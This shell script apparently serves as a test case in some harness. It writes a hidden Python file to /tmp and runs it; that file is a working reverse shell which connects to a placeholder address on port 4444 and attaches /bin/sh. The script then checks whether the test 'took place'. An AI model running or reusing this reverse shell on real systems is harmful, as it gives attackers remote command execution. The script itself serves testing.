#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.j.py <<'END'
import os, select, socket, subprocess, threading
s = socket.create_connection(("203.0.113.10", 4444))
p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
def flow(a, b):
    try:
        while select.select([a], [], []) and os.splice(a, b, 65536): pass
    except OSError: pass
threading.Thread(target=flow, args=(s.fileno(), p.stdin.fileno()), daemon=True).start()
flow(p.stdout.fileno(), s.fileno()); p.wait()
END
timeout 12 python3 /tmp/.j.py || true
test -e /tmp/reached
took_place
